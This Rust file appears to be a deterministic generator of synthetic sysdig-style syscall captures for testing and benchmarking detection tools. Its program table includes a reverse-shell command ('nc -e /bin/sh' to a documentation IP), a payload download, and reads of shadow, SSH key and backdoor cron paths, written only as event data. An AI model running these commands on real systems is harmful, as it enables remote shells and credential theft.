//! A generator of realistic captures for tests and benchmarks, written
//! with [`ScapWriter`] in the layout both Debian's sysdig (libs 2022) and
//! current libs read (libs-2022 parameter counts, a process list, a user
//! list, container metadata events, `socket` before `connect`).
//!
//! The activity is a deterministic (seeded) mix of what hosts running
//! containers do: shells and services spawning programs (`clone` in the
//! child, then `execve` enter/exit), programs opening files for reading
//! and writing (sensitive ones now and then), reading and writing them,
//! connecting to private and public addresses, changing directory,
//! deleting files, and exiting. Processes run on the host or in one of a
//! few containers (docker cgroups plus a container metadata event).
//! Events are generated and written one at a time, so a capture of any
//! size takes constant memory.

use std::io::{self, Write};
use std::net::Ipv4Addr;

use falconer_scap::{
    Event, GroupInfo, MachineInfo, ParamValue as V, ScapWriter, SockAddr, SockTuple, ThreadInfo,
    UserInfo, UserList,
};

/// Generation settings.
#[derive(Clone, Debug)]
pub struct GenConfig {
    pub seed: u64,
    /// Number of events to write (the last activity may add a few more).
    pub events: u64,
    /// First timestamp (ns since the epoch).
    pub start_ts: u64,
}

impl Default for GenConfig {
    fn default() -> Self {
        GenConfig {
            seed: 1,
            events: 10_000,
            start_ts: 1_700_000_000_000_000_000,
        }
    }
}

/// splitmix64: small, fast, deterministic.
#[derive(Clone, Debug)]
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Rng {
        Rng(seed)
    }
    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    /// Uniform in `0..n` (`n > 0`).
    pub fn below(&mut self, n: u64) -> u64 {
        self.next_u64() % n.max(1)
    }
    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }
    pub fn chance(&mut self, percent: u64) -> bool {
        self.below(100) < percent
    }
}

/// A container the generator runs processes in.
pub struct Container {
    pub id: &'static str,
    pub name: &'static str,
    pub repo: &'static str,
    pub tag: &'static str,
}

pub const CONTAINERS: [Container; 3] = [
    Container {
        id: "3ad7b26ded6d8e7b23da7d48fe889434573036c27ae5a74837233de441c3601e",
        name: "web",
        repo: "docker.io/library/nginx",
        tag: "1.25",
    },
    Container {
        id: "9f2b7c1e4d5a6b8c0d1e2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c",
        name: "payments",
        repo: "quay.io/my-company/services/payments",
        tag: "2.4.1",
    },
    Container {
        id: "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
        name: "ci-runner",
        repo: "registry.example.com/ci/runner",
        tag: "latest",
    },
];

/// Programs started by the generator: (name, exe path, arguments).
const PROGRAMS: &[(&str, &str, &[&str])] = &[
    ("ls", "/usr/bin/ls", &["-la", "/tmp"]),
    ("cat", "/usr/bin/cat", &["/etc/hosts"]),
    ("grep", "/usr/bin/grep", &["-r", "error", "/var/log"]),
    (
        "curl",
        "/usr/bin/curl",
        &["-s", "https://example.com/install.sh"],
    ),
    (
        "wget",
        "/usr/bin/wget",
        &["-q", "http://203.0.113.9/payload"],
    ),
    ("bash", "/usr/bin/bash", &["-c", "echo hello"]),
    ("sh", "/bin/sh", &["-c", "id"]),
    ("python3", "/usr/bin/python3", &["-m", "http.server"]),
    ("apt-get", "/usr/bin/apt-get", &["install", "-y", "vim"]),
    ("git", "/usr/bin/git", &["clone", "https://github.com/x/y"]),
    ("sudo", "/usr/bin/sudo", &["-u", "root", "id"]),
    (
        "ssh",
        "/usr/bin/ssh",
        &["-i", "/root/.ssh/id_ed25519", "host"],
    ),
    (
        "nc",
        "/usr/bin/nc",
        &["-e", "/bin/sh", "198.51.100.7", "4444"],
    ),
    ("vim", "/usr/bin/vim", &["/etc/ssh/sshd_config"]),
];

const FILES: &[&str] = &[
    "/etc/hosts",
    "/etc/passwd",
    "/etc/shadow",
    "/etc/gshadow",
    "/etc/sudoers",
    "/etc/sudoers.d/90-cloud-init-users",
    "/etc/ssh/ssh_host_rsa_key",
    "/etc/ssh/ssh_host_rsa_key.pub",
    "/etc/ssh/sshd_config",
    "/etc/ld.so.preload",
    "/etc/cron.d/backdoor",
    "/root/.ssh/id_ed25519",
    "/root/.ssh/id_ed25519.pub",
    "/home/alice/.ssh/id_rsa",
    "/home/alice/.bashrc",
    "/tmp/x.sh",
    "/tmp/.X11-unix/cache",
    "/var/log/syslog",
    "/var/lib/dpkg/status",
    "/usr/lib/x86_64-linux-gnu/libc.so.6",
    "/proc/self/status",
    "/dev/null",
];

/// (address, port).
const PEERS: &[([u8; 4], u16)] = &[
    ([10, 0, 0, 5], 5432),
    ([172, 17, 0, 3], 6379),
    ([192, 168, 1, 10], 80),
    ([127, 0, 0, 1], 8080),
    ([93, 184, 216, 34], 443),
    ([203, 0, 113, 9], 80),
    ([198, 51, 100, 7], 4444),
    ([140, 82, 121, 4], 443),
    ([169, 254, 169, 254], 80),
    ([8, 8, 8, 8], 53),
];

/// PPM open flags.
const O_RDONLY: u32 = 1;
const O_WRONLY: u32 = 2;
const O_RDWR: u32 = 3;
const O_CREAT: u32 = 1 << 2;
const O_TRUNC: u32 = 1 << 8;
const O_CLOEXEC: u32 = 1 << 12;

#[derive(Clone, Debug)]
struct Proc {
    tid: i64,
    ptid: i64,
    name: String,
    cwd: String,
    container: Option<usize>,
    uid: u32,
    next_fd: i64,
}

/// Streams generated events to a writer.
pub struct Generator {
    rng: Rng,
    ts: u64,
    next_tid: i64,
    /// Long-lived processes that start others.
    parents: Vec<Proc>,
    written: u64,
}

fn cgroups(p: &Proc) -> String {
    match p.container {
        Some(c) => format!(
            "cpuset=/docker/{id}\0cpu=/docker/{id}\0memory=/docker/{id}\0",
            id = CONTAINERS[c].id
        ),
        None => "cpuset=/\0cpu=/user.slice\0memory=/user.slice\0".to_string(),
    }
}

fn thread_info(p: &Proc, exe: &str, exepath: &str, args: &[&str]) -> ThreadInfo {
    ThreadInfo {
        tid: p.tid,
        pid: p.tid,
        ptid: p.ptid,
        sid: p.tid,
        vpgid: p.tid,
        comm: p.name.clone(),
        exe: exe.into(),
        exepath: exepath.into(),
        args: args.iter().map(|s| s.to_string()).collect(),
        cwd: p.cwd.clone(),
        fdlimit: 1024,
        uid: p.uid,
        gid: p.uid,
        vtid: p.tid,
        vpid: p.tid,
        cgroups: cgroups(p)
            .split('\0')
            .filter(|s| !s.is_empty())
            .map(String::from)
            .collect(),
        root: "/".into(),
        loginuid: p.uid,
        ..ThreadInfo::default()
    }
}

impl Generator {
    pub fn new(seed: u64, start_ts: u64) -> Generator {
        let host = |tid, ptid, name: &str, uid| Proc {
            tid,
            ptid,
            name: name.into(),
            cwd: "/".into(),
            container: None,
            uid,
            next_fd: 10,
        };
        let mut parents = vec![
            host(1, 0, "systemd", 0),
            host(812, 1, "sshd", 0),
            Proc {
                cwd: "/root".into(),
                ..host(1400, 812, "bash", 0)
            },
            Proc {
                cwd: "/home/alice".into(),
                ..host(1500, 812, "bash", 1000)
            },
            host(900, 1, "cron", 0),
        ];
        for (i, (tid, name)) in [(2100, "nginx"), (2200, "java"), (2300, "runc:[2:INIT]")]
            .into_iter()
            .enumerate()
        {
            parents.push(Proc {
                tid,
                ptid: 1,
                name: name.into(),
                cwd: "/".into(),
                container: Some(i),
                uid: 0,
                next_fd: 10,
            });
        }
        Generator {
            rng: Rng::new(seed),
            ts: start_ts,
            next_tid: 10_000,
            parents,
            written: 0,
        }
    }

    /// The process list written before the events.
    pub fn process_list(&self) -> Vec<ThreadInfo> {
        self.parents
            .iter()
            .map(|p| {
                let path = match p.name.as_str() {
                    "systemd" => "/usr/lib/systemd/systemd",
                    "sshd" => "/usr/sbin/sshd",
                    "bash" => "/usr/bin/bash",
                    "cron" => "/usr/sbin/cron",
                    "nginx" => "/usr/sbin/nginx",
                    "java" => "/usr/bin/java",
                    _ => "/usr/bin/runc",
                };
                thread_info(p, &p.name, path, &[])
            })
            .collect()
    }

    fn tick(&mut self) -> u64 {
        self.ts += 1_000 + self.rng.below(50_000);
        self.ts
    }

    fn emit<W: Write>(
        &mut self,
        w: &mut ScapWriter<W>,
        code: u16,
        tid: i64,
        vals: &[V<'_>],
    ) -> io::Result<()> {
        let ts = self.tick();
        let cpu = (tid as u64 % 4) as u16;
        let ev = Event::from_values(code, ts, tid as u64, cpu, vals)
            .map_err(|e| io::Error::new(io::ErrorKind::InvalidInput, e))?;
        w.write_event(&ev)?;
        self.written += 1;
        Ok(())
    }

    /// Container metadata events (one per container), as the container
    /// engine (or plugin) emits them.
    pub fn containers<W: Write>(&mut self, w: &mut ScapWriter<W>) -> io::Result<()> {
        for c in &CONTAINERS {
            let json = format!(
                concat!(
                    "{{\"container\":{{\"id\":\"{}\",\"type\":0,\"name\":\"{}\",",
                    "\"image\":\"{}:{}\",\"imagerepo\":\"{}\",\"imagetag\":\"{}\",",
                    "\"imageid\":\"sha256:{}\",\"privileged\":false,\"lookup_state\":1}}}}"
                ),
                &c.id[..12],
                c.name,
                c.repo,
                c.tag,
                c.repo,
                c.tag,
                c.id
            );
            // Code 272 (CONTAINER_JSON_E) is gone from current event
            // tables but both libs generations read it: one NUL-terminated
            // CHARBUF.
            let mut raw = json.into_bytes();
            raw.push(0);
            let ev = Event::new(272, self.tick(), u64::MAX, 0, &[&raw]);
            w.write_event(&ev)?;
            self.written += 1;
        }
        Ok(())
    }

    fn proc_values<'a>(
        p: &Proc,
        exe: &'a str,
        args: &'a [u8],
        comm: &'a str,
        cwd: &'a str,
    ) -> Vec<V<'a>> {
        vec![
            V::Pid(0),
            V::Str(exe.as_bytes()),
            V::Bytes(args),
            V::Pid(p.tid),
            V::Pid(p.tid),
            V::Pid(p.ptid),
            V::Str(cwd.as_bytes()),
            V::Int(1024),
            V::Uint(0),
            V::Uint(0),
            V::Uint(4096),
            V::Uint(1024),
            V::Uint(0),
            V::Str(comm.as_bytes()),
        ]
    }

    /// A child of a long-lived process: clone, execve, some activity,
    /// exit.
    fn spawn<W: Write>(&mut self, w: &mut ScapWriter<W>) -> io::Result<()> {
        let parent = self.rng.pick(&self.parents).clone();
        let (name, path, args) = *self.rng.pick(PROGRAMS);
        self.next_tid += 1 + self.rng.below(3) as i64;
        let mut child = Proc {
            tid: self.next_tid,
            ptid: parent.tid,
            name: parent.name.clone(),
            cwd: parent.cwd.clone(),
            container: parent.container,
            uid: parent.uid,
            next_fd: 3,
        };
        let cg = cgroups(&child);
        // clone exit in the child (libs-2022 layout: 20 parameters).
        let mut clone = Self::proc_values(&child, &parent.name, b"", &parent.name, &parent.cwd);
        clone.extend([
            V::Bytes(cg.as_bytes()),
            V::Flags(0),
            V::Uint(child.uid as u64),
            V::Uint(child.uid as u64),
            V::Pid(child.tid),
            V::Pid(child.tid),
        ]);
        self.emit(w, 223, child.tid, &clone)?;
        // execve enter and exit (20 parameters).
        self.emit(w, 292, child.tid, &[V::Str(path.as_bytes())])?;
        let mut argbuf = Vec::new();
        for a in args {
            argbuf.extend_from_slice(a.as_bytes());
            argbuf.push(0);
        }
        let env = format!(
            "HOME=/root\0PATH=/usr/bin:/bin\0USER={}\0",
            if child.uid == 0 { "root" } else { "alice" }
        );
        let mut execve = Self::proc_values(&child, name, &argbuf, name, &child.cwd);
        execve[0] = V::Errno(0);
        execve[7] = V::Uint(1024);
        execve.extend([
            V::Bytes(cg.as_bytes()),
            V::Bytes(env.as_bytes()),
            V::Uint(if child.container.is_some() { 0 } else { 34816 }),
            V::Pid(child.tid),
            V::Uid(child.uid),
            V::Flags(0),
        ]);
        self.emit(w, 293, child.tid, &execve)?;
        child.name = name.into();
        let steps = 1 + self.rng.below(6);
        for _ in 0..steps {
            match self.rng.below(10) {
                0..=4 => self.file_activity(w, &mut child)?,
                5..=6 => self.network_activity(w, &mut child)?,
                7 => self.chdir(w, &mut child)?,
                8 => self.unlink(w, &child)?,
                _ => self.setuid(w, &mut child)?,
            }
        }
        // procexit (status, ret, sig, core).
        self.emit(
            w,
            186,
            child.tid,
            &[V::Errno(0), V::Errno(0), V::Uint(0), V::Uint(0)],
        )
    }

    fn file_activity<W: Write>(&mut self, w: &mut ScapWriter<W>, p: &mut Proc) -> io::Result<()> {
        let file = *self.rng.pick(FILES);
        let flags = match self.rng.below(4) {
            0 => O_WRONLY | O_CREAT | O_TRUNC,
            1 => O_RDWR,
            _ => O_RDONLY | O_CLOEXEC,
        };
        self.emit(
            w,
            306,
            p.tid,
            &[
                V::Fd(-100),
                V::Str(file.as_bytes()),
                V::Flags(flags),
                V::Uint(0o644),
            ],
        )?;
        let failed = self.rng.chance(10);
        let fd = if failed { -2 } else { p.next_fd };
        self.emit(
            w,
            307,
            p.tid,
            &[
                V::Fd(fd),
                V::Fd(-100),
                V::Str(file.as_bytes()),
                V::Flags(flags),
                V::Uint(0o644),
                V::Uint(2049),
            ],
        )?;
        if failed {
            return Ok(());
        }
        p.next_fd += 1;
        for _ in 0..self.rng.below(4) {
            let (enter, exit) = if flags & O_WRONLY != 0 {
                (8, 9)
            } else {
                (6, 7)
            };
            self.emit(w, enter, p.tid, &[V::Fd(fd), V::Uint(4096)])?;
            let data = b"root:x:0:0:root:/root:/bin/bash\n";
            self.emit(
                w,
                exit,
                p.tid,
                &[V::Errno(data.len() as i64), V::Bytes(data)],
            )?;
        }
        self.close(w, p, fd)
    }

    fn close<W: Write>(&mut self, w: &mut ScapWriter<W>, p: &Proc, fd: i64) -> io::Result<()> {
        self.emit(w, 4, p.tid, &[V::Fd(fd)])?;
        self.emit(w, 5, p.tid, &[V::Errno(0)])
    }

    fn network_activity<W: Write>(
        &mut self,
        w: &mut ScapWriter<W>,
        p: &mut Proc,
    ) -> io::Result<()> {
        let (addr, port) = *self.rng.pick(PEERS);
        let ip = Ipv4Addr::from(addr);
        let fd = p.next_fd;
        p.next_fd += 1;
        let udp = port == 53;
        // socket(AF_INET, SOCK_STREAM|SOCK_DGRAM, 0)
        self.emit(
            w,
            18,
            p.tid,
            &[V::Flags(2), V::Uint(if udp { 2 } else { 1 }), V::Uint(0)],
        )?;
        self.emit(w, 19, p.tid, &[V::Fd(fd)])?;
        self.emit(
            w,
            22,
            p.tid,
            &[V::Fd(fd), V::SockAddr(SockAddr::Inet { ip, port })],
        )?;
        let res = match self.rng.below(10) {
            0 => -111, // ECONNREFUSED
            1 => -115, // EINPROGRESS
            _ => 0,
        };
        let sport = 32768 + self.rng.below(28000) as u16;
        let local = if addr[0] == 127 {
            Ipv4Addr::new(127, 0, 0, 1)
        } else {
            Ipv4Addr::new(172, 17, 0, 2)
        };
        self.emit(
            w,
            23,
            p.tid,
            &[
                V::Errno(res),
                V::SockTuple(SockTuple::Inet {
                    sip: local,
                    sport,
                    dip: ip,
                    dport: port,
                }),
            ],
        )?;
        if res == 0 {
            self.emit(w, 8, p.tid, &[V::Fd(fd), V::Uint(64)])?;
            self.emit(
                w,
                9,
                p.tid,
                &[V::Errno(18), V::Bytes(b"GET / HTTP/1.1\r\n\r\n")],
            )?;
        }
        self.close(w, p, fd)
    }

    fn chdir<W: Write>(&mut self, w: &mut ScapWriter<W>, p: &mut Proc) -> io::Result<()> {
        let dir = *self.rng.pick(&["/tmp", "/var/log", "/etc", "/root"]);
        self.emit(w, 94, p.tid, &[])?;
        self.emit(w, 95, p.tid, &[V::Errno(0), V::Str(dir.as_bytes())])?;
        p.cwd = dir.into();
        Ok(())
    }

    fn unlink<W: Write>(&mut self, w: &mut ScapWriter<W>, p: &Proc) -> io::Result<()> {
        let file = *self
            .rng
            .pick(&["/tmp/x.sh", "/var/log/syslog", "/root/.bash_history"]);
        self.emit(w, 302, p.tid, &[])?;
        self.emit(
            w,
            303,
            p.tid,
            &[
                V::Errno(0),
                V::Fd(-100),
                V::Str(file.as_bytes()),
                V::Flags(0),
            ],
        )
    }

    fn setuid<W: Write>(&mut self, w: &mut ScapWriter<W>, p: &mut Proc) -> io::Result<()> {
        let uid = if self.rng.chance(50) { 0 } else { 1000 };
        self.emit(w, 198, p.tid, &[V::Uid(uid)])?;
        self.emit(w, 199, p.tid, &[V::Errno(0), V::Uid(uid)])?;
        p.uid = uid;
        Ok(())
    }

    /// Writes activities until at least `events` events were written.
    pub fn run<W: Write>(&mut self, w: &mut ScapWriter<W>, events: u64) -> io::Result<()> {
        while self.written < events {
            if self.rng.chance(70) {
                self.spawn(w)?;
            } else {
                // A long-lived process works too.
                let i = self.rng.below(self.parents.len() as u64) as usize;
                let mut p = self.parents[i].clone();
                if self.rng.chance(60) {
                    self.file_activity(w, &mut p)?;
                } else {
                    self.network_activity(w, &mut p)?;
                }
                // Long-lived processes reuse their fd numbers.
                p.next_fd = 10;
                self.parents[i] = p;
            }
        }
        Ok(())
    }

    pub fn written(&self) -> u64 {
        self.written
    }
}

/// Writes a whole capture (machine info, users, process list, container
/// events, then activities); returns the number of events written.
pub fn write_capture<W: Write>(out: W, cfg: &GenConfig) -> io::Result<u64> {
    let mut w = ScapWriter::new(out)?;
    w.write_machine_info(&MachineInfo {
        num_cpus: 4,
        memory_bytes: 8 << 30,
        max_pid: 4_194_304,
        hostname: "falconer-gen".into(),
        ..MachineInfo::default()
    })?;
    w.write_users(&UserList {
        users: vec![
            UserInfo {
                uid: 0,
                gid: 0,
                name: "root".into(),
                homedir: "/root".into(),
                shell: "/bin/bash".into(),
            },
            UserInfo {
                uid: 1000,
                gid: 1000,
                name: "alice".into(),
                homedir: "/home/alice".into(),
                shell: "/bin/bash".into(),
            },
        ],
        groups: vec![
            GroupInfo {
                gid: 0,
                name: "root".into(),
            },
            GroupInfo {
                gid: 1000,
                name: "alice".into(),
            },
        ],
    })?;
    let mut g = Generator::new(cfg.seed, cfg.start_ts);
    w.write_processes(&g.process_list())?;
    g.containers(&mut w)?;
    g.run(&mut w, cfg.events)?;
    let n = g.written();
    w.finish()?;
    Ok(n)
}

#[cfg(test)]
mod tests {
    use super::*;
    use falconer_scap::ScapReader;

    #[test]
    fn generated_capture_reads_back() {
        let mut buf = Vec::new();
        let n = write_capture(
            &mut buf,
            &GenConfig {
                events: 2000,
                ..GenConfig::default()
            },
        )
        .unwrap();
        assert!(n >= 2000);
        let r = ScapReader::new(std::io::Cursor::new(buf)).unwrap();
        assert_eq!(r.processes().len(), 8);
        let evs: Vec<Event> = r.map(|e| e.unwrap()).collect();
        assert_eq!(evs.len() as u64, n);
        let names: std::collections::HashSet<&str> = evs.iter().map(|e| e.name()).collect();
        for want in [
            "execve", "clone", "openat", "connect", "socket", "close", "procexit",
        ] {
            assert!(names.contains(want), "{want} missing");
        }
        // Deterministic.
        let mut again = Vec::new();
        write_capture(
            &mut again,
            &GenConfig {
                events: 2000,
                ..GenConfig::default()
            },
        )
        .unwrap();
        let mut buf2 = Vec::new();
        write_capture(
            &mut buf2,
            &GenConfig {
                events: 2000,
                ..GenConfig::default()
            },
        )
        .unwrap();
        assert_eq!(again, buf2);
    }
}
